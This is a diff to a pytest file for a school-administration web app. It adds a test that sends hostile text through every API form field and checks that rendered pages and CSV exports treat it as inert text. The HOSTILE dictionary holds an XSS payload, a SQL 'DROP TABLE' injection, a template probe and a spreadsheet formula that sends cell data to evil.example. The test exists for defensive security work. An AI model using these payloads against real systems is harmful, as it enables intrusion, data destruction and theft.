@@ -1,13 +1,17 @@
 """Every field of every form and of every body: what no field can hold is refused there, and nothing is changed."""
 
 import copy
+import csv
 import html.parser
+import io
 import re
+import secrets
 import urllib.parse
 
 import pytest
 
 from pages import NO_PAGES, pattern
+from people import Person
 from schema import known
 
 # No field of any form or body can hold these.
@@ -99,7 +103,9 @@ def filled(admin, path, ids):
     first = path.split("/{")[0]
     path = path.replace("{section}", (ids.get("/api/v1/sections") or ["none"])[0]).replace("{date}", admin.node.today())
     if "{id}" in path and ids.get(first):
-        path = path.replace("{id}", ids[first][0])
+        # Whoever was made for a test may have no guardian.
+        fitting = [one for one in ids[first] if "/guardians/" not in path or listed(admin.get(f"{first}/{one}/guardians"))]
+        path = path.replace("{id}", fitting[0])
     for inner, listed in (("{guardianship}", "guardians"), ("{job}", "jobs"), ("{right}", "rights")):
         if inner in path:
             answer = admin.get(path.split("/" + inner)[0])
@@ -240,3 +246,103 @@ def test_no_form_takes_what_no_field_can_hold(browser, admin, unchanged):
 
 def browser_url(browser):
     return str(browser.base_url).rstrip("/")
+
+
+# ---- What a field can hold, and nobody hopes for ---------------------------------------------------------------------
+
+HOSTILE = {
+    "markup": "\"'><img src=x onerror=alert(1)><script>alert(2)</script></textarea>{{7*7}}'; DROP TABLE directory_org;--",
+    "one long word": "Llanfairpwllgwyngyllgogerychwyrndrobwll" * 20,
+    "a formula": "=HYPERLINK(\"http://evil.example?\"&A1)",
+}
+# The pages that show what was made through the API.
+SHOWN = {
+    "/api/v1/students": ("/people/students/{id}", ["", "/edit", "?tab=family", "?tab=log", "?tab=sections"]),
+    "/api/v1/staff": ("/people/staff/{id}", ["", "/edit"]),
+    "/api/v1/courses": ("/admin/courses/{id}", [""]),
+    "/api/v1/sections": ("/sections/{id}", ["", "/edit"]),
+    "/api/v1/roles": ("/admin/roles/{id}", [""]),
+    "/api/v1/orgs": ("/admin/orgs/{id}", [""]),
+    "/api/v1/accounts": ("/admin/accounts/{id}", [""]),
+}
+LISTS = ["/people/students?sort=number", "/people/staff", "/people/guardians", "/admin/courses", "/sections",
+         "/admin/roles", "/admin/orgs", "/admin/accounts", "/audit", "/search?q=l"]
+
+
+def longest(shape, schemas, name):
+    """How much text a member of a body holds; nil when it is no free text."""
+    shape = schemas[shape["$ref"].rsplit("/", 1)[1]] if "$ref" in shape else shape
+    member = shape["properties"][name]
+    return None if "format" in member or "enum" in member or "$ref" in member else member.get("maxLength")
+
+
+def made_with(admin, path, description, text):
+    """What comes to be when every member that takes the text has it, and the others are as in the example."""
+    content = description["paths"][path]["post"]["requestBody"]["content"]["application/json"]
+    school, unique = admin.school(), secrets.token_hex(4)
+    known_ids = {"schoolId": school, "orgId": school, "parentId": school, "personId": None, "periodIds": None,
+                 "roles": [], "courseId": admin.get("/api/v1/courses").json()["data"][0]["id"]}
+    body = {name: known_ids.get(name, value) for name, value in content["example"].items()}
+    body |= {name: unique for name in ("number", "code", "userName") if name in body}
+    if path.endswith("/orgs"):
+        body["parentId"] = next(one["parentId"] for one in admin.all("/api/v1/orgs") if one["id"] == school)
+    wanted = {}
+    for name in body:
+        most = longest(content["schema"], description["components"]["schemas"], name)
+        if most:
+            wanted[name] = (unique[:3] + text)[:most] if name in ("number", "code", "userName", "name") else text[:most]
+    answer = admin.post(path, json=body | wanted)
+    while answer.status_code == 422:
+        refused = {error["pointer"].split("/")[1] for error in answer.json()["errors"]} & wanted.keys()
+        assert refused, f"{path}: {answer.text}"
+        wanted = {name: value for name, value in wanted.items() if name not in refused}
+        answer = admin.post(path, json=body | wanted)
+    assert answer.status_code == 201, f"{path}: {answer.text}"
+    assert wanted, f"{path}: no member takes {text}"
+    told = answer.json()["data"]
+    for name, value in wanted.items():
+        if isinstance(told.get(name), str):
+            assert told[name] == value, f"{path} {name}"
+    return told["account"] if path.endswith("/accounts") else told["id"]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_text_stays_text_wherever_it_is_shown(installations, chromium, engine, name):
+    """No field's text becomes part of a page, of a file's formulas or of a statement; none pushes a page wider."""
+    node = installations(engine).seed(20).serve()
+    admin = node.sign_in("administrator")
+    text, pages = HOSTILE[name], list(LISTS)
+    description = admin.get("/api/openapi.json").json()
+    for path, (page, ends) in SHOWN.items():
+        made = made_with(admin, path, description, text)
+        pages += [page.replace("{id}", made) + end for end in ends]
+        if path == "/api/v1/students":
+            student = made
+    made_with_guardian(admin, student, text)
+    person = Person(chromium, node, scripts=True, viewport={"width": 320, "height": 640})
+    person.page.on("dialog", lambda dialog: (person.complaints.append(dialog.message), dialog.dismiss()))
+    person.sign_in("administrator")
+    wrong = []
+    for address in pages:
+        status = person.go(address)
+        width, strangers = person.page.evaluate(
+            "[document.documentElement.scrollWidth, document.querySelectorAll('[src=x], [onerror]').length]")
+        if (status, width, strangers) != (200, 320, 0):
+            wrong.append(f"{address}: {status}, {width} pixels, {strangers} strangers: {widest(person.page)}")
+    assert not wrong, "\n".join(wrong)
+    assert person.complaints == []
+    answer = person.context.request.get("/people/students.csv")
+    person.close()
+    cells = [cell for row in csv.reader(io.StringIO(answer.text())) for cell in row]
+    assert len(cells) > 100 and not [cell for cell in cells if cell and cell[0] in "=+@-"]
+
+
+def widest(page):
+    return page.evaluate("""() => [...document.querySelectorAll("body *")].filter(found =>
+        found.getBoundingClientRect().right > 321).slice(-1).map(found => found.parentElement.outerHTML.slice(0, 160))""")
+
+
+def made_with_guardian(admin, student, text):
+    answer = admin.post(f"/api/v1/students/{student}/guardians", json={
+        "displayName": text[:200], "relation": "father", "email": None, "phone": None})
+    assert answer.status_code in (201, 422), answer.text
